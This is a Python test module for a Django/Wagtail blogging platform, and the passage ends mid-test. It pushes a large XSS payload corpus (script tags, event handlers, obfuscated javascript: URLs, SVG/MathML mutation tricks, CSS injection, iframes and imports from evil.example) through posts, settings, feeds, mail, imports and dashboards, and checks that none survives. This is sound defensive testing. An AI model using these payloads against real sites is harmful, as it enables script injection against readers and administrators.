"""An XSS corpus pushed through every place a blogger's text reaches a reader or another
user, with each page that shows it checked by ``tests.xss_check.executable_contexts``.

Each payload carries its own marker (``mk000x``, ``mk001x``, ...), so a finding on a
dashboard page, where Wagtail's own scripts run, can still be told apart from ours. Reader
pages (blogs, feeds, discovery, mail) may hold no script and no event handler at all.

The post body and the blog's custom CSS go through the dashboard's real edit views (where
they are rendered and sanitised); other fields are written through the models, as the
importer and the moderation code do. A control payload in each place shows the text did
arrive, so no test passes by showing nothing.
"""

import io
import re
import zipfile

import markdown
import pytest
from defusedxml import ElementTree
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone
from wagtail.images import get_image_model
from wagtail.images.tests.utils import get_test_image_file

from blog.analytics.hits import clean_label
from blog.core.markdown import EXTENSION_CONFIGS, EXTENSIONS
from blog.models import Hit, PostPage, Subscriber
from blog.moderation.flags import set_blog_flags
from blog.subscribers.tasks import new_post_message
from home.models import HiddenBlog
from tests.support.clients import host_client
from tests.support.dashboard_forms import post_form
from tests.support.xss_check import MARKER, executable_contexts

# Each payload carries MARK, replaced by its own marker (mk000x, mk001x, ...).
PAYLOADS = (
    # Classic <script>, closing whatever context the text lands in first.
    "<script>alert('MARK')</script>",
    "<SCRIPT SRC=//evil.example/MARK.js></SCRIPT>",
    "<script>alert('MARK')</script",
    "<scr<script>ipt>alert('MARK')</scr</script>ipt>",
    "<script type=module>alert('MARK')</script>",
    "<<script>alert('MARK');//<</script>",
    "<script/xss src=\"data:,alert('MARK')\"></script>",
    "\"><script>alert('MARK')</script>",
    "'><script>alert('MARK')</script>",
    "</title><script>alert('MARK')</script>",
    "</textarea><script>alert('MARK')</script>",
    "</style><script>alert('MARK')</script>",
    "</script><script>alert('MARK')</script>",
    "--><script>alert('MARK')</script>",
    "]]><script>alert('MARK')</script>",
    "</noscript><script>alert('MARK')</script>",
    # Event handlers, in every spelling a parser accepts.
    "<img src=x onerror=alert('MARK')>",
    "<IMG SRC=x OnErRoR=\"alert('MARK')\">",
    "<img src=x:alert(alt) onerror=eval(src) alt='MARK'>",
    "<img/src=x/onerror=alert('MARK')>",
    "<img src=x onerror\x0c=alert('MARK')>",
    '<img src="x"onerror="alert(\'MARK\')">',
    "<img src=x onerror   =   \"alert('MARK')\">",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('MARK')>",
    "<svg onload=alert('MARK')>",
    "<svg/onload=alert('MARK')//",
    "<body onload=alert('MARK')>",
    "<details open ontoggle=alert('MARK')>",
    "<video><source onerror=alert('MARK')></video>",
    "<audio src=x onerror=alert('MARK')>",
    "<input autofocus onfocus=alert('MARK')>",
    "<input type=checkbox checked onclick=alert('MARK')>",
    "<select autofocus onfocus=alert('MARK')>",
    "<marquee onstart=alert('MARK')>",
    "<div onmouseover=\"alert('MARK')\">hover</div>",
    '<a onclick="alert(\'MARK\')" href="#">click</a>',
    "<p onpointerenter=alert('MARK')>x</p>",
    "<time datetime=x onmouseenter=alert('MARK')>t</time>",
    "<span id=y tabindex=1 onfocusin=alert('MARK')>s</span>",
    "<x onclick=alert('MARK')>click",
    "<iframe onload=alert('MARK')></iframe>",
    # javascript:, vbscript: and data: URLs, obfuscated the ways browsers still accept.
    "<a href=\"javascript:alert('MARK')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('MARK')\">x</a>",
    "<a href=\"  javascript:alert('MARK')\">x</a>",
    "<a href=\"java&#x09;script:alert('MARK')\">x</a>",
    "<a href=\"java&Tab;script&colon;alert('MARK')\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('MARK')\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('MARK')\">x</a>",
    "<a href=\"javascript&#0000058alert('MARK')\">x</a>",
    "<a href=\"java\nscript:alert('MARK')\">x</a>",
    "<a href=\"\x01javascript:alert('MARK')\">x</a>",
    "<a href=javascript:alert('MARK')>x</a>",
    "<a href=\"javascript://%0aalert('MARK')\">x</a>",
    "<a href=\"vbscript:msgbox('MARK')\">x</a>",
    "<a href=\"data:text/html,<script>alert('MARK')</script>\">x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK">x</a>',
    "<img src=\"javascript:alert('MARK')\">",
    "<video poster=\"javascript:alert('MARK')\"></video>",
    # Markdown's own link and image syntax.
    "[x](javascript:alert('MARK'))",
    "[x](JAVASCRIPT:alert('MARK'))",
    "[x](<javascript:alert('MARK')>)",
    "[x](javascript&#58;alert('MARK'))",
    "[x](  javascript:alert%28'MARK'%29 )",
    "[x](vbscript:msgbox('MARK'))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?MARK)",
    "![x](javascript:alert('MARK'))",
    "![x](x\" onerror=\"alert('MARK'))",
    "![x\" onerror=\"alert('MARK')](x.png)",
    '[x](https://example.com "t\\" onmouseover=\\"alert(\'MARK\')")',
    "[x][ref]\n\n[ref]: javascript:alert('MARK')",
    "<javascript:alert('MARK')>",
    "Text\n{: onclick=\"alert('MARK')\" }",
    "# Heading {: onmouseover=\"alert('MARK')\" }",
    "[link](https://example.com){: onclick=\"alert('MARK')\" }",
    "![img](x.png){: onerror=\"alert('MARK')\" }",
    "[x](https://example.com){: href=\"javascript:alert('MARK')\" }",
    # Raw HTML blocks and Markdown constructs that carry HTML along.
    "<div>\n<script>alert('MARK')</script>\n</div>",
    "<div markdown=\"1\">\n[x](javascript:alert('MARK'))\n</div>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert('MARK')>",
    "| a |\n|---|\n| <img src=x onerror=alert('MARK')> |",
    "- [ ] <img src=x onerror=alert('MARK')>",
    "*[HTML]: <img src=x onerror=alert('MARK')>\n\nHTML",
    "Term\n: <img src=x onerror=alert('MARK')>",
    "```html\n<script>alert('MARK')</script>\n```",
    "`<img src=x onerror=alert('MARK')>`",
    "$\\text{<img src=x onerror=alert('MARK')>}$",
    "$$\\href{javascript:alert('MARK')}{x}$$",
    "www.example.com/\"onmouseover=\"alert('MARK')",
    # Directives (blog.reader.directives) expanded on the stored HTML at request time.
    "{{ posts|tag:\"><img src=x onerror=alert('MARK')> }}",
    "{{ <img src=x onerror=alert('MARK')> }}",
    "[x]({{ post_link }}\" onclick=\"alert('MARK'))",
    "<a href=\"{{ blog_link }}javascript:alert('MARK')\">x</a>",
    "{{ blog_title }}<img src=x onerror=alert('MARK')>{{ post_title }}",
    # SVG and MathML: namespace confusion and mutation XSS.
    "<svg><script>alert('MARK')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('MARK')\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert('MARK') attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert('MARK') />"
    "<text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert('MARK')>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#MARK\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    "<img src onerror=alert('MARK')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('MARK')>\">",
    "<math><maction actiontype=statusline xlink:href=\"javascript:alert('MARK')\">"
    "CLICK</maction></math>",
    "<math href=\"javascript:alert('MARK')\">CLICK</math>",
    "<math><mi xlink:href=\"data:x,<script>alert('MARK')</script>\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('MARK')>",
    "<svg><style>&lt;img src=x onerror=alert('MARK')&gt;</style></svg>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert('MARK')</script>"
    "</annotation-xml></math>",
    "<math><semantics><annotation encoding=\"text/html\"><img src=x onerror=alert('MARK')>"
    "</annotation></semantics></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    "<template><img src=x onerror=alert('MARK')></template>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert('MARK')>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert('MARK')>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert('MARK')>\">",
    "<title><img title=\"</title><img src=x onerror=alert('MARK')>\">",
    "<!--<img src=\"--><img src=x onerror=alert('MARK')//\">",
    "<!-- --!><img src=x onerror=alert('MARK')> -->",
    "<![CDATA[><img src=x onerror=alert('MARK')>]]>",
    "<?xml-stylesheet ?><img src=x onerror=alert('MARK')>",
    # Broken and malformed tags.
    "<img src=x onerror=alert('MARK')",
    '<img """><script>alert(\'MARK\')</script>">',
    "<a href=\"x\" <script>alert('MARK')</script>>",
    "<<img src=x onerror=alert('MARK')>>",
    "<img src=`x`onerror=alert('MARK')>",
    "<div<img src=x onerror=alert('MARK')>",
    '<a title="a"onmouseover="alert(\'MARK\')">x</a>',
    "<img src=x onerror=alert('MARK')\x0b>",
    # Inline style and <style>.
    "<div style=\"width: expression(alert('MARK'))\">x</div>",
    "<div style=\"background:url(javascript:alert('MARK'))\">x</div>",
    "<style>body{background:url(\"javascript:alert('MARK')\")}</style>",
    "<style>@import 'https://evil.example/MARK.css';</style>",
    # The blogger's custom CSS (blog.reader.themes), where these land inside <style>.
    "body { background: url(javascript:alert('MARK')) }",
    "body { width: expression(alert('MARK')) }",
    "body { width: e\\78pression(alert('MARK')) }",
    "body { background: url( \"jav\\61script:alert('MARK')\" ) }",
    "body { background: u\\72l(javascript:alert('MARK')) }",
    "</STYLE ><img src=x onerror=alert('MARK')>",
    "</style x><img src=x onerror=alert('MARK')>",
    "<!--</style><img src=x onerror=alert('MARK')>-->",
    "\\3c /style\\3e <img src=x onerror=alert('MARK')>",
    "@import url(//evil.example/MARK.css);",
    "@\\69mport 'https://evil.example/MARK.css';",
    "body{background:url(data:text/html;base64,PHNjcmlwdD4=#MARK)}",
    "body{background:url(/*x*/javascript:alert('MARK'))}",
    "a{b:c;}</style><svg onload=alert('MARK')>",
    # HTML Bear keeps (issue 17): media, inline styles, link targets, embeds, directives.
    "<video src=\"javascript:alert('MARK')\"></video>",
    "<video controls><source src=\"data:text/html,<script>alert('MARK')</script>\"></video>",
    "<video src=x onerror=alert('MARK')><source src=x onerror=alert('MARK')></video>",
    "<audio controls><source src=\"javascript:alert('MARK')\"></audio>",
    "<video><track kind=captions src=\"javascript:alert('MARK')\"></video>",
    "<video poster=\"javascript:alert('MARK')\" autoplay></video>",
    "<p style=\"width: e\\78pression(alert('MARK'))\">x</p>",
    '<p style="background:url(//evil.example/MARK.png);color:red">x</p>',
    '<span style="-moz-binding:url(//evil.example/MARK.xml#x);behavior:url(MARK.htc)">x</span>',
    "<figure onmouseover=alert('MARK')><figcaption>x</figcaption></figure>",
    '<iframe src="https://www.youtube.com.evil.net/embed/MARK"></iframe>',
    '<iframe src="https://mrkennedy.ca.evil.example/MARK"></iframe>',
    "<a href=\"javascript:alert('MARK')\" target=_blank rel=opener>x</a>",
    "[x](tab:javascript:alert('MARK'))",
    ".. note:: <img src=x onerror=alert('MARK')>\n   <img src=x onerror=alert('MARK')>",
    "# <img src=x onerror=alert('MARK')>\n\n.. toc:: <svg onload=alert('MARK')>",
    ".. nosuch::\n   <img src=x onerror=alert('MARK')>",
    # <base>, <meta refresh>, frames, plugins and forms.
    "<base href=\"javascript:alert('MARK')//\">",
    '<base href="https://evil.example/MARK/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'MARK\')">',
    "<meta http-equiv=refresh content=\"0; url=data:text/html,<script>alert('MARK')</script>\">",
    "<iframe srcdoc=\"<script>alert('MARK')</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert('MARK')&gt;\"></iframe>",
    "<iframe src=\"javascript:alert('MARK')\"></iframe>",
    '<iframe src="https://evil.example/MARK"></iframe>',
    '<iframe src="https://www.youtube.com/embed/MARK" sandbox="allow-scripts '
    'allow-top-navigation allow-modals"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/MARK"></iframe>',
    '<iframe src="https://www.youtube.com@evil.example/MARK"></iframe>',
    '<iframe src="http://www.youtube.com/embed/MARK"></iframe>',
    '<iframe src="https://evil.example\\@www.youtube.com/MARK"></iframe>',
    '<iframe src="https://evil.example&#92;@www.youtube.com/MARK"></iframe>',
    '<iframe src="https:\\\\evil.example/MARK"></iframe>',
    '<iframe src="https://www.youtube.com:8443/MARK"></iframe>',
    '<iframe src="https://www.you&#9;tube.com/MARK"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(\'MARK\')</script>">'
    "</iframe>",
    "<object data=\"javascript:alert('MARK')\"></object>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK"></object>',
    "<embed src=\"javascript:alert('MARK')\">",
    "<embed src=\"data:image/svg+xml,<svg onload=alert('MARK')>\">",
    "<applet code=\"javascript:alert('MARK')\"></applet>",
    "<form action=\"javascript:alert('MARK')\"><button>go</button></form>",
    "<form><button formaction=\"javascript:alert('MARK')\">go</button></form>",
    "<input type=image src=x formaction=\"javascript:alert('MARK')\">",
    "<isindex action=\"javascript:alert('MARK')\" type=image>",
    "<link rel=stylesheet href=\"javascript:alert('MARK')\">",
    "<frameset onload=alert('MARK')>",
    # Attribute-value and header tricks: text that lands in an attribute or a header line.
    "x\" onmouseover=\"alert('MARK')",
    "x' onmouseover='alert(/MARK/)",
    '" autofocus onfocus="alert(\'MARK\')" x="',
    '" /><base href="https://evil.example/MARK/"><x "',
    "</title><meta http-equiv=refresh content=\"0;url=javascript:alert('MARK')\">",
    "title: x\nclass_name: x\" onmouseover=\"alert('MARK')\nlink: MARK",
    "x\r\ncanonical_url: javascript:alert('MARK')",
    # Entity, escaping and width tricks that hope for a second decoding.
    "&lt;script&gt;alert('MARK')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert('MARK')&amp;gt;",
    "%3Cscript%3Ealert('MARK')%3C/script%3E",
    "\\u003cscript\\u003ealert('MARK')\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert('MARK')\uff1c/script\uff1e",
    "<img src=x onerror=\"&#x61;lert('MARK')\">",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    "&#0000112&#0000116&#0000058alert('MARK')\">x</a>",
)
CORPUS = [payload.replace("MARK", f"mk{number:03d}x") for number, payload in enumerate(PAYLOADS)]
CONTROL = "**bold** <em>x</em> ctrl-mark"
CONTROL_HTML = "<strong>bold</strong> <em>x</em> ctrl-mark"
ATOM = "{http://www.w3.org/2005/Atom}"
LONG_ENOUGH = "\n\nPadding so that the post is long enough for discovery. " * 4


def unsanitised_markdown(text):
    return markdown.markdown(text, extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS)


def test_the_checker_finds_the_corpus_where_nothing_sanitises_it():
    """Without escaping or nh3 (as Markdown, raw in a page, in an attribute or in <style>),
    nearly every payload runs; the rest hope for a second decoding or a broken parser."""
    flagged = [
        payload
        for payload in CORPUS
        if executable_contexts(unsanitised_markdown(payload))
        or executable_contexts(f"<p>{payload}</p>")
        or executable_contexts(f'<p title="{payload}">x</p>')
        or executable_contexts(f"<style>{payload}</style>")
    ]
    assert len(flagged) >= 170, sorted(set(CORPUS) - set(flagged))
    assert not executable_contexts(f"<style>.a{{color:red}}</style><p>{CONTROL}</p>")


class Findings:
    """Collects every executable context on every page checked, to fail once with all."""

    def __init__(self):
        self.found = []
        self.pages = 0

    def check(self, where, html, admin=False):
        self.pages += 1
        self.found += [f"{where}: {finding}" for finding in executable_contexts(html, admin)]
        return html

    def check_response(self, where, response, admin=False):
        assert response.status_code == 200, (where, response.status_code)
        return self.check(where, response.content.decode(), admin)

    def check_feed(self, where, response):
        """A feed's XML must parse, and the HTML it carries (Atom ``type="html"``, RSS
        item descriptions) is what feed readers render: checked as a reader page."""
        assert response.status_code == 200, (where, response.status_code)
        root = ElementTree.fromstring(response.content)
        html = [e.text for e in root.iter() if e.get("type") == "html"]
        html += [e.text for e in root.iter("description") if e.text]
        for text in html:
            self.check(where, text or "")
        return response.content.decode()

    def assert_none(self):
        assert self.pages, "no page was checked"
        assert not self.found, f"{len(self.found)} executable contexts:\n" + "\n".join(
            self.found[:80]
        )


def marker_of(payload):
    found = MARKER.search(payload)
    return found[0] if found else "ctrl-mark"


@pytest.fixture
def no_page_cache(settings):
    """No stale reader pages: no page cache."""
    settings.READER_PAGE_CACHE_SECONDS = 0


def add_post(blog, slug, title, body, tags=(), **fields):
    """A live post, written through the model (``save`` renders and sanitises the body)."""
    fields.setdefault("published_date", timezone.now() - timezone.timedelta(days=2))
    post = PostPage(title=title, body=body, slug=slug, owner=blog.owner, live=True, **fields)
    post.tags.add(*tags)  # a cluster relation: saved with the page
    blog.add_child(instance=post)
    return post


def feed_pages(client, query=""):
    """Every page of a blog's feed (``query`` like ``type=rss&``)."""
    number = 1
    while (response := client.get(f"/feed/?{query}page={number}")).status_code == 200:
        yield f"/feed/?{query}page={number}", response
        number += 1


def packed(texts, limit):
    """``texts`` joined into as few strings of at most ``limit`` characters as can be,
    for escaped-text places where payloads cannot interfere with each other."""
    chunks = [""]
    for text in texts:
        text = text[:limit]
        if len(chunks[-1]) + len(text) + 1 > limit:
            chunks.append("")
        chunks[-1] = f"{chunks[-1]} {text}" if chunks[-1] else text
    return chunks


# --- Posts: title, body, tags and description wherever readers meet them


def test_post_fields_never_run_on_reader_pages_in_feeds_or_in_mail(make_blogger, no_page_cache):
    """One post per payload (a body must not swallow the next payload's markup)."""
    blog = make_blogger("corpus", title="Corpus")
    directives = "\n\n{{ post_title }} {{ post_description }} {{ next_post }}"
    posts = [
        add_post(
            blog,
            f"p{number}",
            title=payload,
            body=payload + directives,
            tags=[payload[:100]],
            meta_description=payload[:300],
        )
        for number, payload in enumerate([*CORPUS, CONTROL])
    ]
    blog.home_content = "{{ posts|description:true|content:true }}\n\n{{ tags }}"
    blog.save()
    reader, findings = host_client(blog), Findings()
    for post in posts:
        html = findings.check_response(post.slug, reader.get(f"/{post.slug}/"))
    assert CONTROL_HTML in html  # the control post, last: the body did render
    html = findings.check_response("/blog/", reader.get("/blog/"))
    assert html.count('<a href="/blog/?q=') == len(posts)  # every tag is listed
    html = findings.check_response("home", reader.get("/"))
    assert CONTROL_HTML in html and html.count("<li><span><i><time") == len(posts)
    feeds = [
        findings.check_feed(where, page)
        for query in ("", "type=rss&")
        for where, page in feed_pages(reader, query)
    ]
    assert len(feeds) > 2 and "ctrl-mark" in feeds[0]
    subscriber = Subscriber.objects.create(blog=blog, email="reader@example.com")
    for post in posts:
        findings.check(
            f"mail on {post.slug}", new_post_message(post, subscriber).alternatives[0][0]
        )
    findings.assert_none()


def test_tag_queries_reflected_on_the_post_index_never_run(make_blogger, no_page_cache):
    blog = make_blogger("tagged", title="Tagged")
    add_post(blog, "control", CONTROL, CONTROL, tags=["ctrl-mark"])
    reader, findings = host_client(blog), Findings()
    for payload in CORPUS:
        findings.check_response(f"/blog/?q={payload}", reader.get("/blog/", {"q": payload}))
    html = findings.check_response("/blog/?q=ctrl-mark", reader.get("/blog/", {"q": "ctrl-mark"}))
    assert '<span class="tag">ctrl-mark</span>' in html  # the heading shows the query
    findings.assert_none()


# --- The dashboard's editor: the real form, its preview, and the pages it lists


def blog_form(blog, **fields):
    """The blog's settings form (BlogPage's editor), as the browser submits it."""
    return {
        "title": blog.title,
        "home_content": blog.home_content,
        "nav": blog.nav,
        "meta_description": blog.meta_description,
        "lang": blog.lang,
        "date_format": blog.date_format,
        "discoverable": "on",
        "theme": blog.theme,
        "custom_css": blog.custom_css,
        "favicon_emoji": "",
        "favicon_image": "",
        "robots_txt": "",
        "action-publish": "action-publish",
        **fields,
    }


def test_the_editor_and_its_preview_sanitise_the_whole_corpus(make_blogger, login, staff_client):
    blog = make_blogger("editor", title="Editor")
    owner, reader, findings = login(blog.owner), host_client(blog), Findings()
    everything = "\n\n".join([CONTROL, *CORPUS])  # some payloads swallow what follows
    form = post_form(title=CONTROL, body=everything, slug="everything")
    add_url = reverse("wagtailadmin_pages:add", args=["blog", "postpage", blog.pk])
    response = owner.post(add_url, {**form, "action-publish": "action-publish"})
    assert response.status_code == 302, response.context["form"].errors
    post = PostPage.objects.get(slug="everything")
    html = findings.check_response("the published post", reader.get("/everything/"))
    assert CONTROL_HTML in html

    preview_url = reverse("wagtailadmin_pages:preview_on_edit", args=[post.pk])
    assert owner.post(preview_url, form).json()["is_valid"] is True
    # The preview is the reader's page, but served from the dashboard's own origin.
    html = findings.check_response("the preview", owner.get(preview_url))
    assert CONTROL_HTML in html

    css = "\n".join(CORPUS) + "\n.ctrl-mark { color: red }"
    response = owner.post(
        reverse("wagtailadmin_pages:edit", args=[blog.pk]),
        blog_form(
            blog, custom_css=css, home_content=everything, nav=everything[:5000], title="Editor"
        ),
    )
    assert response.status_code == 302, response.context["form"].errors
    html = findings.check_response("the home page", reader.get("/"))
    assert ".ctrl-mark { color: red }" in html and CONTROL_HTML in html

    for where, client, url in [
        ("the post's editor", owner, reverse("wagtailadmin_pages:edit", args=[post.pk])),
        ("the blog's editor", owner, reverse("wagtailadmin_pages:edit", args=[blog.pk])),
        ("the explorer", owner, reverse("wagtailadmin_explore", args=[blog.pk])),
        (
            "staff's view of the editor",
            staff_client,
            reverse("wagtailadmin_pages:edit", args=[post.pk]),
        ),
    ]:
        findings.check_response(where, client.get(url), admin=True)
    findings.assert_none()


# --- The blog's own settings: title, nav, home content, description, custom CSS


def test_blog_settings_never_run_on_its_pages_or_feed(make_blogger, no_page_cache):
    """One payload at a time in every setting of one blog, each home page rendered (the
    emoji icon, at most 16 characters, is drawn in an SVG of its own)."""
    blog = make_blogger("settings", title="Settings")
    add_post(blog, "post", "A post", "Text")
    reader, findings = host_client(blog), Findings()
    fields = ["title", "nav", "home_content", "meta_description", "custom_css", "favicon_emoji"]
    directives = "\n\n{{ blog_title }} {{ blog_description }} {{ blog_link }}"
    for payload in [*CORPUS, CONTROL]:
        blog.title, blog.nav, blog.custom_css = payload, payload, payload
        blog.home_content, blog.meta_description = payload + directives, payload[:300]
        blog.favicon_emoji = payload[:16]
        blog.save(update_fields=fields)
        html = findings.check_response(f"home with {payload!r}", reader.get("/"))
        assert marker_of(payload) in html  # in the <title> at least: not a stale page
        findings.check_feed(f"feed with {payload!r}", reader.get("/feed/"))
        findings.check_response(f"favicon.svg of {payload!r}", reader.get("/favicon.svg"))
    assert CONTROL_HTML in html and "ctrl-mark" in html.split("</style>")[0]
    findings.check("the 404 page", reader.get("/no-such-post/").content.decode())
    findings.assert_none()


# --- Listings other people read: discovery, its feed, and the staff's views


def test_blog_and_post_titles_never_run_in_discovery_or_staff_views(
    make_blogger, staff_client, login, no_page_cache, monkeypatch
):
    """Titles are escaped text in these listings, so many payloads share one title."""
    monkeypatch.setattr("home.discover.PAGE_SIZE", 500)  # every entry in one feed
    blogs = []
    for number, title in enumerate([*packed(CORPUS, 255), CONTROL]):
        blog = make_blogger(f"listed{number}", title=title)
        add_post(blog, "post", title, CONTROL + LONG_ENOUGH, meta_description=title[:300])
        blogs.append(blog)
    findings = Findings()
    for tab in ("", "flagged/"):
        for number in range(1, len(blogs) // 20 + 2):
            url = f"/dashboard/review/{tab}?p={number}"
            findings.check_response(url, staff_client.get(url), admin=True)
    for number in range(1, len(blogs) // 50 + 2):
        url = f"/dashboard/blogs/?p={number}"
        findings.check_response(url, staff_client.get(url), admin=True)
    findings.check_response("explorer", staff_client.get("/dashboard/pages/"), admin=True)
    findings.check_response("staff dashboard", staff_client.get("/dashboard/"), admin=True)

    for blog in blogs:
        set_blog_flags(blog, reviewed=True, flagged=True)
    someone = get_user_model().objects.create_user("reader", "reader@example.com", "pw")
    HiddenBlog.objects.bulk_create(HiddenBlog(user=someone, blog=blog) for blog in blogs[::2])
    reader = login(someone)
    anonymous = host_client("localhost")
    for client, who in ((anonymous, "anonymous"), (reader, "signed in")):
        for query in ("", "?newest=1"):
            html = findings.check_response(
                f"/discover/{query} ({who})", client.get(f"/discover/{query}")
            )
            assert "ctrl-mark" in html or who == "signed in"
    for query in ("", "?newest=1"):
        xml = findings.check_feed(
            f"/discover/feed/{query}", anonymous.get(f"/discover/feed/{query}")
        )
        assert xml.count("<entry>") == len(blogs)
    for blog in blogs:
        set_blog_flags(blog, blocked=True)
    for url in ("/dashboard/review/blocked/", "/dashboard/blogs/"):
        findings.check_response(url, staff_client.get(url), admin=True)
    findings.check_response("blocked notice", login(blogs[0].owner).get("/dashboard/"), admin=True)
    findings.assert_none()


# --- The dashboard: images and subscribers


def test_image_titles_never_run_in_the_image_listing_or_chooser(make_blogger, login, settings):
    """Titles are escaped text here: many payloads share one image (and its thumbnail)."""
    settings.WAGTAILIMAGES_INDEX_PAGE_SIZE = settings.WAGTAILIMAGES_CHOOSER_PAGE_SIZE = 500
    blog = make_blogger("pictures", title="Pictures")
    for title in [*packed(CORPUS, 255), CONTROL]:
        get_image_model().objects.create(
            title=title,
            file=get_test_image_file(),
            collection=blog.collection,
            uploaded_by_user=blog.owner,
        )
    owner, findings = login(blog.owner), Findings()
    html = findings.check_response("images", owner.get(reverse("wagtailimages:index")), admin=True)
    assert "ctrl-mark" in html and all(marker_of(payload) in html for payload in CORPUS)
    response = owner.get(reverse("wagtailimages_chooser:choose"))
    html = response.json()["html"]
    findings.check("the image chooser", html, admin=True)
    assert "ctrl-mark" in html and all(marker_of(payload) in html for payload in CORPUS)
    findings.assert_none()


def test_subscriber_addresses_never_run_in_the_subscriber_listing(
    make_blogger, login, staff_client
):
    """Written straight to the table: the worst an address could hold, past any form."""
    blog = make_blogger("letters", title="Letters")
    for text in [*packed(CORPUS, 240), CONTROL]:
        Subscriber.objects.create(blog=blog, email=f"{text}@example.com")
    findings = Findings()
    for who, client in (("blogger", login(blog.owner)), ("staff", staff_client)):
        shown = ""
        for number in (1, 2, 3):
            url = reverse("subscribers:index") + f"?p={number}"
            shown += findings.check_response(f"{url} ({who})", client.get(url), admin=True)
        assert "ctrl-mark" in shown and all(marker_of(payload) in shown for payload in CORPUS)
    findings.assert_none()


def test_referrers_readers_send_never_run_in_the_bloggers_analytics(
    make_blogger, login, staff_client, monkeypatch
):
    """Reader text reaching a blogger: a ``?ref=`` label, stored as ``analytics`` keeps it."""
    monkeypatch.setattr("blog.analytics.views.TOP", 500)  # every referrer in the list
    blog = make_blogger("counted", title="Counted")
    post = add_post(blog, "post", CONTROL, "Text")
    now = timezone.now()
    Hit.objects.bulk_create(
        Hit(
            post=post,
            blog=blog,
            created_at=now,
            day=now.date(),
            visitor_hash=f"v{number}",
            referrer_host=clean_label(text),
            device=text[:10],
            browser=text[:20],
        )
        for number, text in enumerate([*CORPUS, "ctrl-mark"])
    )
    findings = Findings()
    for who, client, query in (
        ("blogger", login(blog.owner), ""),
        ("staff", staff_client, f"?blog={blog.pk}"),
    ):
        url = reverse("bearcms_analytics") + query
        html = findings.check_response(f"analytics ({who})", client.get(url), admin=True)
        assert "ctrl-mark" in html and all(marker_of(payload) in html for payload in CORPUS)
    findings.assert_none()


# --- Importing posts: attribute headers in Markdown files


def test_attribute_headers_of_imported_posts_never_run(make_blogger, login, no_page_cache):
    """Every attribute of a header holds the payload (on one line, as headers are)."""
    blog = make_blogger("imports", title="Imports")
    owner, files = login(blog.owner), {}
    for number, payload in enumerate([*CORPUS, CONTROL]):
        line = " ".join(payload.split())
        header = "\n".join(
            f"{name}: {line}"
            for name in (
                "title",
                "tags",
                "meta_description",
                "canonical_url",
                "class_name",
                "lang",
                "alias",
            )
        )
        files[f"posts/p{number}.md"] = f"{header}\nlink: p{number}\n\n{payload}"
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        for name, text in files.items():
            zipped.writestr(name, text)
    upload = SimpleUploadedFile("posts.zip", archive.getvalue())
    response = owner.post("/dashboard/import/", {"file": upload}, follow=True)
    findings = Findings()
    findings.check_response("the import preview", response, admin=True)
    job = response.context["job"]
    with TestCase.captureOnCommitCallbacks(execute=True):
        owner.post(reverse("bearcms_import:start", args=[job.pk]), {"on_clash": "suffix"})
    job.refresh_from_db()
    assert job.status == "done", job.error
    url = reverse("bearcms_import:job", args=[job.pk])
    findings.check_response("the import report", owner.get(url), admin=True)
    reader = host_client(blog)
    for post in PostPage.objects.child_of(blog):
        findings.check_response(f"imported {post.slug}", reader.get(post.url))
    assert PostPage.objects.child_of(blog).count() == len(files)
    findings.assert_none()


# --- HTML Bear keeps (issue 17), beyond what the checker counts as running


def test_styles_fetch_nothing_and_new_tabs_get_no_handle_on_the_page(make_blogger, no_page_cache):
    """Bear's freedoms (``style``, ``target``, ``tab:`` links, embeds) on a reader page:
    no style loads anything (``url()`` to any host) or runs, every link that opens a tab
    carries ``noopener``, and no frame comes from a host outside the embed list."""
    blog = make_blogger("freedoms", title="Freedoms")
    body = "\n\n".join(
        [
            '<p style="background:url(//evil.example/x.png);color:red">styled</p>',
            "<div style=\"background-image:url('https://evil.example/y.png')\">y</div>",
            '<a href="https://example.com" target="_blank">blank</a>',
            '<a href="https://example.com" target="_blank" rel="opener me">opener</a>',
            "[tab](tab:https://example.com)",
            '<iframe src="https://www.youtube.com.evil.net/embed/x"></iframe>',
            '<iframe src="https://player.vimeo.com/video/1"></iframe>',
            CONTROL,
        ]
    )
    add_post(blog, "freedoms", "Freedoms", body)
    html = Findings().check_response("post", host_client(blog).get("/freedoms/"))
